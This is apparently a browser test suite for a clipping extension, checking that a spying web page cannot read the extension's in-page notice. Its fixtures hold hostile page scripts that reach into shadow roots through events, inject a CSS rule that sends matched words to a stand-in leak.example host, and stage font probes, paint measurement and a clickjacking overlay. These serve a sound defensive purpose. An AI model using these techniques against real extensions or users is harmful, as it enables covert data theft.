import type { ServerResponse } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { readNotice, waitForNotice } from '../../../scripts/browsers/notice.ts';
import { select } from '../../../scripts/browsers/select.ts';
import { waitFor, type TabView } from '../../../scripts/browsers/session.ts';
import { BROWSERS, openNewsroom, type Newsroom } from '../newsroom.ts';
import { readChanges, recordChanges } from '../page-changes.ts';
import { readClips } from '../stored.ts';

/** Words of the notice that occur nowhere in the page. */
const OUR_WORDS = ['Inbox', 'Clipped to', 'Open', 'Undo', 'Comment', 'Clipsheet', 'Close'];
const LONG_TITLE = 'Ministers of eleven countries meet to agree on one tariff for all their ports '.repeat(4);

/** All font families that a notice could use, including generic ones, quoted and unquoted. */
const FAMILIES = [
  ...['system-ui', '-apple-system', 'Segoe UI', 'Noto Sans', 'PingFang SC', 'Microsoft YaHei', 'sans-serif'],
  ...['Charter', 'Georgia', 'Noto Serif', 'Songti SC', 'serif', 'ui-sans-serif', 'monospace', 'cursive'],
  ...['BlinkMacSystemFont', 'Times New Roman', 'DejaVu Sans', 'DejaVu Serif', 'math', 'emoji', 'fangsong'],
];

/**
 * Collects, in the page's own script, what the nodes contain to which events lead, and asks for words by rules in the style sheets found there. Firefox
 * names nodes in closed shadow roots. The page enlarges the notice, so that a mouse at rest is over it.
 */
const FOLLOW_EVENTS = `<script>
const found = new Set();
const collect = (event) => {
  for (const node of [event.originalTarget, event.explicitOriginalTarget, event.rangeParent, event.relatedTarget]) {
    const root = node?.getRootNode?.();
    if (!(root instanceof ShadowRoot)) continue;
    found.add('a root');
    for (const sheet of root.adoptedStyleSheets)
      sheet.insertRule('p[data-words^="Clipped"], [data-words^="I"] { background: url(http://leak.example/words) }');
    for (const each of root.querySelectorAll('*'))
      for (const { value } of [...each.attributes, { value: getComputedStyle(each, '::before').content }, { value: each.ariaLabel ?? '' }])
        if (each.localName !== 'button') found.add(value);
  }
  document.documentElement.dataset.found = [...found].join(' | ');
};
for (const type of ['pointerover', 'pointermove', 'mousemove', 'mouseout', 'mousedown', 'click', 'focus', 'focusin', 'blur', 'keydown', 'wheel', 'selectstart', 'dragstart'])
  addEventListener(type, collect, true);
new MutationObserver((changes) => {
  for (const { addedNodes } of changes)
    for (const node of addedNodes) if (node.localName === 'div') node.style.setProperty('zoom', '3', 'important');
}).observe(document.documentElement, { childList: true });
</script>`;

/** The words are in a frame of their own, so that the page is told of paints also after the input that clips them. */
const FRAMED = `<script>
const sizes = [];
new PerformanceObserver((list) => {
  for (const { size } of list.getEntries()) sizes.push(size);
  document.documentElement.dataset.sizes = sizes.join(' ');
}).observe({ type: 'largest-contentful-paint', buffered: true });
</script><iframe id="frame" src="/short" style="position: fixed; inset: 0; width: 600px; height: 400px"></iframe>`;

const responders = {
  'spy.example': (address: URL, response: ServerResponse) => {
    const title = address.pathname.endsWith('long') ? LONG_TITLE : 'No';
    const isFramed = address.pathname.startsWith('/framed');
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    // The page looks the same at each address, so differences come from the notice.
    response.end(
      `<!doctype html><html lang="en"><title>${title}</title><style>* { font-family: 'No such' }</style>` +
        `<meta property="og:title" content="${title}">${isFramed ? FRAMED : ''}<article><p id="words">These are the words which a person has selected.</p></article>${address.pathname === '/events' ? FOLLOW_EVENTS : ''}</html>`,
    );
  },
};

describe.each(BROWSERS)('a page that spies on the notice in %s', (browser) => {
  let room: Newsroom;
  let desk: TabView;
  let tab: TabView;
  beforeAll(async () => {
    room = await openNewsroom(browser, { responders });
    desk = await room.session.openExtensionPage('desk/index.html');
  });
  afterEach(() => tab.close());
  afterAll(() => room.close());

  /** Opens the page, lets it prepare, and clips from it with the context menu. */
  async function clip(path: string, prepare?: () => void): Promise<TabView> {
    tab = await room.session.openTab(`http://spy.example/${path}`);
    const page = tab;
    await waitFor('the page to be drawn', () =>
      page.run(() => performance.getEntriesByName('first-contentful-paint').length > 0),
    );
    if (prepare) await tab.run(prepare);
    await select(tab, '#words');
    await room.session.chooseFromMenu(tab, 'selection');
    await waitForNotice(tab);
    return tab;
  }

  it('finds no word by searching or by selecting all', async ({ skip }) => {
    if (!room.session.hasScreen) skip('needs Xvfb and xdotool');
    const page = await clip('short');
    expect(await page.run(findWords, ['which a person'])).toEqual(['which a person']);
    expect(await page.run(findWords, OUR_WORDS)).toEqual([]);
    const selected = await page.run(() => {
      const selection = getSelection();
      selection?.selectAllChildren(document.documentElement);
      return `${String(selection)} ${document.documentElement.innerText} ${document.documentElement.textContent}`;
    });
    for (const word of OUR_WORDS) expect(selected).not.toContain(word);
  });

  it('is asked for no font of its own, whatever it names it', async ({ skip }) => {
    if (!room.session.hasScreen) skip('needs Xvfb and xdotool');
    tab = await room.session.openTab('http://spy.example/short');
    await tab.run((families) => {
      const face = (name: string, file: string) =>
        `@font-face { font-family: ${name}; src: url(http://fonts.example/${file}); unicode-range: U+0-10FFFF }`;
      const style = document.createElement('style');
      style.textContent = families
        .flatMap((name, index) => [face(`"${name}"`, `quoted-${index}`), face(name, `bare-${index}`)])
        .join('\n');
      document.head.append(style);
    }, FAMILIES);
    await select(tab, '#words');
    await room.session.chooseFromMenu(tab, 'selection');
    await waitForNotice(tab);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(room.requests.filter((address) => address.includes('fonts.example'))).toEqual([]);
  });

  it('learns the same from layout, hit tests and performance, whatever the words are', async ({ skip }) => {
    if (!room.session.hasScreen) skip('needs Xvfb and xdotool');
    const short = await (await clip('short', watchPaints)).run(measureNotice);
    await tab.close();
    const long = await (await clip('long', watchPaints)).run(measureNotice);
    expect(short.touched).toBeGreaterThan(100);
    expect((await waitForNotice(tab)).words).toContain(LONG_TITLE.trim());
    expect(long).toEqual(short);
  });

  it('is told of no paint whose size depends on the words', async ({ skip }) => {
    if (!room.session.hasScreen) skip('needs Xvfb and xdotool');
    const sizesOf = async (path: string) => {
      tab = await room.session.openTab(`http://spy.example/${path}`);
      const page = tab;
      await waitFor('the frame', () => page.run(selectInFrame));
      await room.session.pressQuoteShortcut();
      expect((await waitForNotice(page)).words).toContain('Inbox'); // a notice of a problem is larger
      await new Promise((resolve) => setTimeout(resolve, 500));
      return page.run(() => document.documentElement.dataset['sizes']);
    };
    const short = await sizesOf('framed-short');
    await tab.close();
    expect(await sizesOf('framed-long')).toBe(short);
  });

  it('is led to no word by events of mouse and keyboard, even if it enlarges the notice', async ({
    skip,
  }) => {
    if (!room.session.hasScreen) skip('needs Xvfb and xdotool');
    const page = await clip('events');
    const { centre, words } = await waitForNotice(page);
    expect(words).toContain('Inbox');
    for (const step of [-60, -30, 0, 30, 60])
      await page.moveMouse({ x: centre.x + step, y: centre.y + step });
    for (let press = 0; press < 4; press += 1) await page.press('Tab');
    const found = await page.run(() => document.documentElement.dataset['found'] ?? '');
    if (browser === 'firefox') expect(found).toContain('a root'); // of the cover, which has no words
    for (const word of OUR_WORDS) expect(found).not.toContain(word);
    expect(room.requests.filter((address) => address.includes('leak.example'))).toEqual([]);
  });

  it('sees that a node came and went, and no word of it', async ({ skip }) => {
    if (!room.session.hasScreen) skip('needs Xvfb and xdotool');
    tab = await room.session.openTab('http://spy.example/long');
    await recordChanges(tab);
    await select(tab, '#words');
    await room.session.chooseFromMenu(tab, 'selection');
    await waitForNotice(tab);
    const host = await tab.run(() => {
      const seen = document.querySelector('body ~ div');
      return {
        names: seen?.getAttributeNames(),
        inside: seen?.childNodes.length,
        style: seen?.getAttribute('style'),
      };
    });
    expect(host).toMatchObject({ names: ['style'], inside: 0 });
    for (const word of OUR_WORDS) expect(host.style).not.toContain(word);
    await expect.poll(() => readNotice(tab), { timeout: 15_000 }).toBeUndefined();
    expect(await readChanges(tab)).toEqual(['html +div', 'html -div']);
  });

  it('undoes nothing by a click that it leads astray', async ({ skip }) => {
    if (!room.session.hasScreen) skip('needs Xvfb and xdotool');
    const before = (await readClips(desk)).length;
    const page = await clip('bait');
    await page.run(() => {
      const cover = document.createElement('div');
      cover.popover = 'manual';
      cover.textContent = 'Press here to win';
      cover.style.cssText =
        'position: fixed; inset: 0; width: 100vw; height: 100vh; margin: 0; pointer-events: none';
      document.body.append(cover);
      cover.showPopover();
    });
    const notice = await waitForNotice(page);
    await page.clickAt(notice.buttons[0]?.centre ?? notice.centre);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect((await readClips(desk)).length).toBe(before + 1);
  });

  it('makes the button deaf, and the clip stays, and the keys open it', async ({ skip }) => {
    if (!room.session.hasScreen) skip('needs Xvfb and xdotool');
    const page = await clip('deaf', () => {
      for (const name of ['click', 'mousedown', 'mouseup', 'pointerdown', 'pointerup'])
        addEventListener(
          name,
          (event) => {
            event.stopImmediatePropagation();
            event.preventDefault();
          },
          { capture: true },
        );
    });
    const notice = await waitForNotice(page);
    await page.clickAt(notice.buttons[0]?.centre ?? notice.centre);
    const popup = await room.session.pressShortcut();
    await waitFor('Undo in the popup', () =>
      popup.run(() =>
        [...document.querySelectorAll('button')].some(({ innerText }) => innerText.includes('Undo')),
      ),
    );
    await popup.close();
  });
});

/** Runs in the page. */
function findWords(words: string[]): string[] {
  const page = window as unknown as { find: (...how: unknown[]) => boolean };
  return words.filter((word) => {
    getSelection()?.removeAllRanges();
    return (
      page.find(word, false, false, true, false, true) || page.find(word, false, true, true, false, true)
    );
  });
}

/** Runs in the page. Records the sizes of everything that the browser reports as painted. */
function watchPaints(): void {
  const seen: string[] = [];
  document.documentElement.dataset['paints'] = '';
  for (const type of PerformanceObserver.supportedEntryTypes) {
    if (!/paint|layout|element|shift/u.test(type)) continue;
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        if (entry.startTime < performance.now() - 3000) continue;
        const { size = 0, value = 0 } = entry as PerformanceEntry & { size?: number; value?: number };
        seen.push(`${type} ${size} ${value}`);
      }
      document.documentElement.dataset['paints'] = seen.join('; ');
    }).observe({ type, buffered: false });
  }
}

/** Runs in the page. Returns everything that a page can measure about what covers it. */
function measureNotice() {
  const hits: string[] = [];
  const carets: unknown[] = [];
  for (let x = innerWidth - 480; x < innerWidth; x += 4)
    for (let y = 0; y < 320; y += 4) {
      const hit = document.elementFromPoint(x, y);
      if (hit?.parentElement !== document.documentElement || hit.localName !== 'div') continue;
      hits.push(`${innerWidth - x},${y}`);
      const caret = document.caretPositionFromPoint(x, y);
      carets.push(caret && [caret.offsetNode.nodeName, caret.offset]);
    }
  const host = document.querySelector('body ~ div');
  return {
    touched: hits.length,
    corners: [hits[0], hits.at(-1)],
    hits: hits.join(' '),
    carets: JSON.stringify([...new Set(carets.map((caret) => JSON.stringify(caret)))]),
    host: JSON.stringify([host?.getBoundingClientRect(), host?.scrollHeight, host?.getAttributeNames()]),
    animations: document.getAnimations().length,
    scroll: [document.documentElement.scrollWidth, innerWidth - document.documentElement.clientWidth],
    paints: document.documentElement.dataset['paints'],
  };
}

/** Runs in the page. Returns whether the words of its frame are selected, and keys go to the frame. */
function selectInFrame(): boolean {
  const frame = document.querySelector('iframe');
  const words = frame?.contentDocument?.querySelector('#words');
  if (!words) return false;
  frame?.focus();
  frame?.contentWindow?.getSelection()?.selectAllChildren(words);
  return frame?.contentDocument?.hasFocus() === true;
}
